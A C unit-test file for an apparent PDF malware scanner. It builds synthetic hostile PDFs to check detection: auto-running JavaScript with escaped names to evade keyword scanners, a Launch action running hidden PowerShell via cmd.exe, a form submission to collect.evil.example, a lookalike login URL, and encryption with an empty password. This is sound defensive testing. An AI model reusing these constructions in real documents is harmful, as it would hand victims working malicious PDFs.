static GByteArray *sec_encrypt(const struct sec *c, int num, const void *p, size_t n)
{
	uint8_t k[16 + 5 + 4], ok[32];
	GByteArray *b = g_byte_array_new();

	memcpy(k, c->key, 16);
	k[16] = (uint8_t)num, k[17] = (uint8_t)(num >> 8), k[18] = (uint8_t)(num >> 16);
	k[19] = k[20] = 0;
	memcpy(k + 21, "sAlT", 4);
	if (c->r == 6)
		memcpy(ok, c->key, 32);
	else
		md5(k, c->r == 4 ? 25 : 21, NULL, 0, ok);
	if (c->r == 3) {
		g_byte_array_append(b, p, (guint)n);
		arc4(ok, 16, b->data, n);
	} else {
		uint8_t iv[16], out[4096 + 32];
		int l1 = 0, l2 = 0;
		EVP_CIPHER_CTX *x = EVP_CIPHER_CTX_new();

		for (int i = 0; i < 16; i++)
			iv[i] = (uint8_t)(i * 3 + num);
		assert_true(n <= 4096);
		EVP_EncryptInit_ex(x, c->r == 6 ? EVP_aes_256_cbc() : EVP_aes_128_cbc(), NULL, ok,
		                   iv);
		EVP_EncryptUpdate(x, out, &l1, p, (int)n);
		EVP_EncryptFinal_ex(x, out + l1, &l2);
		EVP_CIPHER_CTX_free(x);
		g_byte_array_append(b, iv, 16);
		g_byte_array_append(b, out, (guint)(l1 + l2));
	}
	return b;
}

static GString *hexs(const uint8_t *p, size_t n)
{
	GString *g = g_string_new("<");

	for (size_t i = 0; i < n; i++)
		g_string_append_printf(g, "%02x", p[i]);
	g_string_append_c(g, '>');
	return g;
}

static GString *encrypted_pdf(int r, const char *pw, const char *js, const char *file)
{
	struct sec c;
	GString *g = pdf_begin(), *o, *u, *jsh, *tr, *body;
	GByteArray *ejs, *zf, *ef;

	if (r == 6)
		sec_init6(&c);
	else
		sec_init(&c, r, pw);
	o = hexs(c.o, 32);
	u = hexs(c.u, 32);
	ejs = sec_encrypt(&c, 1, js, strlen(js));
	jsh = hexs(ejs->data, ejs->len);
	zf = zdeflate(file, strlen(file));
	ef = sec_encrypt(&c, 6, zf->data, zf->len);
	body = g_string_new(NULL);
	g_string_printf(body, "<< /Type /Catalog /OpenAction << /S /JavaScript /JS %s >> >>",
	                jsh->str);
	pdf_obj(g, 1, body->str);
	{
		GByteArray *en = sec_encrypt(&c, 5, "f.txt", 5);
		GString *h = hexs(en->data, en->len);

		g_string_printf(body, "<< /Type /Filespec /F %s /EF << /F 6 0 R >> >>", h->str);
		pdf_obj(g, 5, body->str);
		g_string_free(h, TRUE);
		g_byte_array_free(en, TRUE);
	}
	pdf_stream(g, 6, "/Type /EmbeddedFile /Filter /FlateDecode", ef->data, ef->len);
	if (r == 6) {
		GString *o6 = hexs(c.o, 48), *u6 = hexs(c.u, 48), *ue = hexs(c.ue, 32);

		g_string_printf(body,
		                "<< /Filter /Standard /V 5 /R 6 /Length 256 /P -4 /O %s /U %s "
		                "/OE %s /UE %s /Perms <00000000000000000000000000000000> "
		                "/CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF "
		                "/StrF /StdCF >>",
		                o6->str, u6->str, ue->str, ue->str);
		g_string_free(o6, TRUE);
		g_string_free(u6, TRUE);
		g_string_free(ue, TRUE);
	} else if (r == 3)
		g_string_printf(body,
		                "<< /Filter /Standard /V 2 /R 3 /Length 128 /P -4 /O %s /U %s >>",
		                o->str, u->str);
	else
		g_string_printf(body,
		                "<< /Filter /Standard /V 4 /R 4 /Length 128 /P -4 /O %s /U %s "
		                "/CF << /StdCF << /CFM /AESV2 /Length 16 >> >> /StmF /StdCF "
		                "/StrF /StdCF >>",
		                o->str, u->str);
	pdf_obj(g, 9, body->str);
	tr = g_string_new(NULL);
	g_string_printf(tr, "/Encrypt 9 0 R /ID [<%s> <%s>]", "30313233343536373839616263646566",
	                "30313233343536373839616263646566");
	pdf_end(g, tr->str);
	g_string_free(o, TRUE);
	g_string_free(u, TRUE);
	g_string_free(jsh, TRUE);
	g_string_free(tr, TRUE);
	g_string_free(body, TRUE);
	g_byte_array_free(ejs, TRUE);
	g_byte_array_free(zf, TRUE);
	g_byte_array_free(ef, TRUE);
	return g;
}

static void encrypted_with_empty_password(void **state)
{
	const char js[] = "app.launchURL('http://evil.example/');";
	const char file[] = "decrypted embedded file";

	(void)state;
	static const int revisions[] = {3, 4, 6};

	for (size_t i = 0; i < G_N_ELEMENTS(revisions); i++) {
		GString *g = encrypted_pdf(revisions[i], "", js, file);
		vigil_scan *s = scan(g);

		assert_data(must(s, "doc.pdf/f.txt"), file, strlen(file));
		assert_data(must(s, "doc.pdf/javascript-1.js"), js, strlen(js));
		assert_true(tu_finding(s, "pdf.encrypted_empty_password") >= 0);
		assert_int_equal(tu_finding(s, "document.encrypted"), -1);
		assert_int_equal(tu_finding(s, "decode.error"), -1);
		vigil_scan_free(s);
		g_string_free(g, TRUE);
	}
}

static void encrypted_with_a_password(void **state)
{
	GString *g = encrypted_pdf(4, "secret", "app.alert(1)", "data");
	vigil_scan *s = scan(g);

	(void)state;
	assert_true(tu_finding(s, "document.encrypted") >= 0);
	assert_true(vigil_object_flags(vigil_scan_object(s, 0)) & VIGIL_OBJ_ENCRYPTED);
	assert_int_equal(children(s), 0);
	assert_int_equal(tu_finding(s, "decode.error"), -1);
	assert_int_not_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

/* ---- actions (issue 4): what the PDF would do when opened ---- */

static bool finding(const vigil_scan *s, const char *id, const char *attack)
{
	long i = tu_finding(s, id);

	if (i < 0) {
		tu_dump(s);
		return false;
	}
	return attack == NULL ||
	       strstr(vigil_finding_attack(vigil_scan_finding(s, (size_t)i)), attack) != NULL;
}

static void openaction_javascript_runs_by_itself(void **state)
{
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	/* names written with #xx escapes, as droppers do to dodge keyword scanners */
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>");
	add_page(g);
	pdf_obj(g, 5, "<< /Type /Action /S /#4Aava#53cript /JS (app.alert\\(1\\);) >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_true(finding(s, "pdf.autorun", "T1204.002"));
	assert_true(finding(s, "pdf.javascript", "T1059.007"));
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void launch_uri_and_submitform(void **state)
{
	GString *g = pdf_begin();
	vigil_scan *s;
	long i;
	bool url = false;

	(void)state;
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] >> >>");
	add_page(g);
	pdf_obj(g, 5,
	        "<< /Type /Annot /Subtype /Link /A << /S /Launch /Win << /F (cmd.exe) "
	        "/P (/c powershell -w hidden) >> >> >>");
	pdf_obj(g, 6,
	        "<< /Type /Annot /Subtype /Link /A << /S /URI /URI "
	        "(http://login.bhxh-gov.example/dang-nhap) >> >>");
	pdf_obj(g, 7,
	        "<< /Type /Annot /Subtype /Widget /A << /S /SubmitForm /F "
	        "(https://collect.evil.example/post) >> >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_true(finding(s, "pdf.launch", "T1204.002"));
	i = tu_finding(s, "pdf.launch");
	assert_non_null(
	        strstr(vigil_finding_evidence(vigil_scan_finding(s, (size_t)i)), "cmd.exe"));
	assert_true(finding(s, "pdf.submitform", "T1598.003"));
	assert_int_equal(tu_finding(s, "pdf.autorun"), -1); /* a click is needed */
	for (size_t k = 0; k < vigil_scan_fact_count(s, VIGIL_FACT_URL); k++)
		url |= strcmp(vigil_scan_fact(s, VIGIL_FACT_URL, k),
		              "http://login.bhxh-gov.example/dang-nhap") == 0;
	assert_true(url);
	assert_string_equal(vigil_scan_fact(s, VIGIL_FACT_DOMAIN, 0), "login.bhxh-gov.example");
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

static void plain_document_has_no_action_findings(void **state)
{
	GString *g = pdf_begin();
	vigil_scan *s;

	(void)state;
	/* a table of contents link and a page label: ordinary navigation */
	pdf_obj(g, 1, "<< /Type /Catalog /Pages 2 0 R /OpenAction [3 0 R /Fit] >>");
	add_page(g);
	pdf_obj(g, 5, "<< /Type /Annot /Subtype /Link /A << /S /GoTo /D [3 0 R /Fit] >> >>");
	pdf_end(g, NULL);
	s = scan(g);
	assert_int_equal(tu_finding(s, "pdf.*"), -1);
	assert_int_equal(vigil_scan_verdict(s), VIGIL_CLEAN);
	vigil_scan_free(s);
	g_string_free(g, TRUE);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
	        cmocka_unit_test(embedded_file_flate_png_predictor),
	        cmocka_unit_test(javascript_string_and_stream),
	        cmocka_unit_test(objects_inside_object_streams),
	        cmocka_unit_test(asciihex_flate_chain),
	        cmocka_unit_test(ascii85),
	        cmocka_unit_test(runlength),
	        cmocka_unit_test(lzw_with_tiff_predictor),
	        cmocka_unit_test(lying_lengths),
	        cmocka_unit_test(flate_bomb_hits_a_limit),
	        cmocka_unit_test(object_stream_bomb_hits_a_limit),
	        cmocka_unit_test(cycles_terminate),
	        cmocka_unit_test(nesting_is_bounded),
	        cmocka_unit_test(swallowed_objects_are_still_found),
	        cmocka_unit_test(rereading_is_bounded),
	        cmocka_unit_test(truncated_files),
	        cmocka_unit_test(hidden_program_and_xfa),
	        cmocka_unit_test(openaction_javascript_runs_by_itself),
	        cmocka_unit_test(launch_uri_and_submitform),
	        cmocka_unit_test(plain_document_has_no_action_findings),
	        cmocka_unit_test(encrypted_with_empty_password),
	        cmocka_unit_test(encrypted_with_a_password),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
